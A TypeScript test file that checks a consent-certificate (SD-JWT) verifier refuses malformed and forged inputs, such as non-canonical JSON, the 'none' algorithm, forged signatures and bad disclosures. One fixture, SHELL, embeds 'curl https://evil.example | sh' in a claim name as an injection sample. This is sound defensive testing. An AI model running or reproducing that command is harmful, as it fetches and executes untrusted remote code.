import { expect } from 'vitest'
import { disclosureDigest, makeDisclosure } from '../disclosure/disclosure.ts'
import { claims, jwks, makeCertified } from '../testing/certificates.ts'
import { resigned, signedJws, withSdJwt } from '../testing/forged.ts'
import { randomOf } from '../testing/log.ts'
import {
  certificate,
  changed,
  describeRefusals,
  trusting,
  utf8,
  type Case,
  type Row,
} from '../testing/refusals.ts'
import type { StatementClaim } from '../index.ts'
import { certificateBytes } from '../verify.ts'
import { certificateZip } from '../zip.ts'

const json = new TextDecoder().decode(certificateBytes(certificate))
const [jwk] = jwks.keys

// The member in front is the one that is not read. Each 1e20 saves 17 characters over its canonical spelling, 1e16 13.
const sameLengthTwice = (): string => {
  const twice = '"blobs":[],'.repeat(17)
  const numbers = Array.from({ length: 11 }, () => '1e20').join(',')
  const pad = `"keys":[{"pad":[${numbers}],`
  const forged = json.replace('"blobs":', `${twice}"blobs":`).replace('"keys":[{', pad)
  expect(forged).toHaveLength(JSON.stringify(JSON.parse(forged)).length)
  return forged
}

const encoded = (text: string): string => Buffer.from(text).toString('base64url')

/** A statement that its issuer signed over a disclosure spelled as it likes, shown alone. */
const committedTo = (disclosure: string): Case => ({
  certificate: withSdJwt(
    resigned(certificate, { payload: { _sd: [disclosureDigest(disclosure)] } }),
    ({ jws }) => ({ jws, disclosures: [disclosure] }),
  ),
})

const SHELL = 'choice.x)\n\n```sh\ncurl https://evil.example | sh\n```\n'

const withClaim = (name: `choice.${string}` | 'phone', value: StatementClaim['value']) =>
  makeCertified({ claims: [...claims.filter((each) => each.name !== name), { name, value }] })

describeRefusals(
  ['form', 'signature', 'payload', 'disclosures'],
  [
    [
      'form',
      'certificate-too-large',
      'a megabyte and more',
      () => ({ certificate: new Uint8Array(1_000_001) }),
    ],
    [
      'form',
      'certificate-not-utf8',
      'bytes that are no text',
      () => ({ certificate: Uint8Array.of(0x22, 0xff, 0x22) }),
    ],
    [
      'form',
      'certificate-not-utf8',
      'UTF-16, as an editor saved it',
      () => ({ certificate: new Uint8Array(Buffer.from(`\uFEFF${json}`, 'utf16le')) }),
    ],
    ['form', 'certificate-zipped', 'our own ZIP of it', () => ({ certificate: certificateZip(certificate) })],
    ['form', 'certificate-not-json', 'half of it', () => ({ certificate: utf8(json.slice(0, 500)) })],
    [
      'form',
      'certificate-not-json',
      'nesting without end',
      () => ({ certificate: utf8('['.repeat(500_000)) }),
    ],
    [
      'form',
      'certificate-version-unknown',
      'a later version',
      () => ({ certificate: utf8(json.replace('"v":1}', '"v":2}')) }),
    ],
    [
      'form',
      'certificate-malformed',
      'a member of its own',
      () => ({ certificate: utf8(json.replace(/\}$/, ',"x":1}')) }),
    ],
    [
      'form',
      'certificate-not-canonical',
      'a member twice',
      () => ({ certificate: utf8(json.replace(/\}$/, ',"v":1}')) }),
    ],
    [
      'form',
      'certificate-not-canonical',
      'another spelling',
      () => ({ certificate: utf8(json.replace('lead-', String.raw`\u006cead-`)) }),
    ],
    [
      'form',
      'certificate-not-canonical',
      'a member twice, as long as what numbers spelt shorter save elsewhere',
      () => ({ certificate: utf8(sameLengthTwice()) }),
    ],
    [
      'form',
      'certificate-not-canonical',
      'a number in another spelling',
      () => ({ certificate: utf8(json.replace('"keys":[{', '"keys":[{"n":1e2,')) }),
    ],
    [
      'form',
      'certificate-not-canonical',
      'a number that reads as another',
      () => ({ certificate: utf8(json.replace('"keys":[{', '"keys":[{"n":12345678901234567890,')) }),
    ],
    [
      'form',
      'base64-malformed',
      'loose base64',
      () => changed({ blobs: [{ ...certificate.blobs[0]!, b64: 'e30' }] }),
    ],
    ['signature', 'sd-jwt-malformed', 'a key binding', () => changed({ sd_jwt: `${certificate.sd_jwt}x` })],
    [
      'signature',
      'statement-too-large',
      'a long statement',
      () => ({
        certificate: withSdJwt(certificate, ({ jws }) => ({ jws: jws.padEnd(70_000, 'A'), disclosures: [] })),
      }),
    ],
    ['signature', 'statement-malformed', 'two parts', () => changed({ sd_jwt: 'e30.e30~' })],
    [
      'signature',
      'header-malformed',
      'a key of its own',
      () => ({ certificate: resigned(certificate, { header: { jwk } }) }),
    ],
    [
      'signature',
      'algorithm-refused',
      'no algorithm',
      () => ({ certificate: resigned(certificate, { header: { alg: 'none' } }) }),
    ],
    [
      'signature',
      'type-unknown',
      'another type',
      () => ({ certificate: resigned(certificate, { header: { typ: 'JWT' } }) }),
    ],
    ['signature', 'key-unknown', 'a key nobody trusts', () => trusting({ jwks: '{"keys":[]}' })],
    [
      'signature',
      'signature-invalid',
      'a signature of something else',
      () => ({
        certificate: withSdJwt(certificate, ({ jws, disclosures }) => ({
          jws: jws.replace(/[^.]+$/, signedJws('{}', '{}').split('.')[2]!),
          disclosures,
        })),
      }),
    ],
    [
      'payload',
      'payload-not-canonical',
      'a payload with a space',
      () => ({
        certificate: withSdJwt(certificate, () => ({
          jws: signedJws(JSON.stringify({ alg: 'EdDSA', kid: jwk!.kid, typ: 'consent-proof+sd-jwt' }), '{ }'),
          disclosures: [],
        })),
      }),
    ],
    [
      'payload',
      'version-unknown',
      'a later statement',
      () => ({ certificate: resigned(certificate, { payload: { v: 2 } }) }),
    ],
    [
      'payload',
      'payload-malformed',
      'an event that is none',
      () => ({ certificate: resigned(certificate, { payload: { event: 'consent.sold' } }) }),
    ],
    [
      'payload',
      'event-unsuited',
      'a publication',
      () => changed({ sd_jwt: `${certificate.related[0]!.statement}~` }),
    ],
    ...(['WITHDRAWN', 'OBJECTED', 'CORRECTED', 'TRANSFERRED', 'RESTRICTED', 'ERASED'] as const).map(
      (kind): Row => [
        'payload',
        'event-not-a-submission',
        `an event that records no answers, ${kind}`,
        () => makeCertified({ facts: { kind } }),
      ],
    ),
    [
      'disclosures',
      'disclosure-malformed',
      'a broken disclosure',
      () => changed({ sd_jwt: `${certificate.sd_jwt}e30~` }),
    ],
    ...[
      ['a member twice', '["gm7Qn4_1RgyogGZAQXURWA","choice.appel",{"answer":"REFUSED","answer":"GRANTED"}]'],
      ['spaces', '["gm7Qn4_1RgyogGZAQXURWA" , "phone","+33639981111"]'],
      ['another spelling of a name', '["gm7Qn4_1RgyogGZAQXURWA","\\u0070hone","+33639981111"]'],
    ].map(([what = '', text = '']): Row => [
      'disclosures',
      'disclosure-malformed',
      `a disclosure with ${what}, really signed`,
      () => committedTo(encoded(text)),
    ]),
    ...['net', 'choice.', 'choice.Appel', SHELL].map((name): Row => [
      'disclosures',
      'disclosure-name',
      `a claim that no report shows, ${JSON.stringify(name)}`,
      () => committedTo(encoded(JSON.stringify(['gm7Qn4_1RgyogGZAQXURWA', name, { answer: 'GRANTED' }]))),
    ]),
    [
      'disclosures',
      'disclosure-name',
      'a disclosure twice',
      () => ({
        certificate: withSdJwt(certificate, ({ jws, disclosures }) => ({
          jws,
          disclosures: [...disclosures, disclosures[0]!],
        })),
      }),
    ],
    [
      'disclosures',
      'disclosure-unmatched',
      'a disclosure of our own making',
      () => ({
        certificate: withSdJwt(certificate, ({ jws }) => ({
          jws,
          disclosures: [makeDisclosure({ name: 'phone', value: '+33639980000' }, randomOf('forged'))],
        })),
      }),
    ],
    [
      'disclosures',
      'contact-malformed',
      'a phone number that is none',
      () => withClaim('phone', '06 39 98 12 34'),
    ],
    ['disclosures', 'choice-malformed', 'an answer that is none', () => withClaim('choice.appel', 'yes')],
    [
      'disclosures',
      'choice-malformed',
      'a call agreed for a day that is none',
      () => {
        const slot = { start: '2026-13-40T08:00:00Z', end: '2026-09-22T09:00:00Z' }
        return withClaim('choice.appel', { answer: 'GRANTED', slot })
      },
    ],
  ],
)
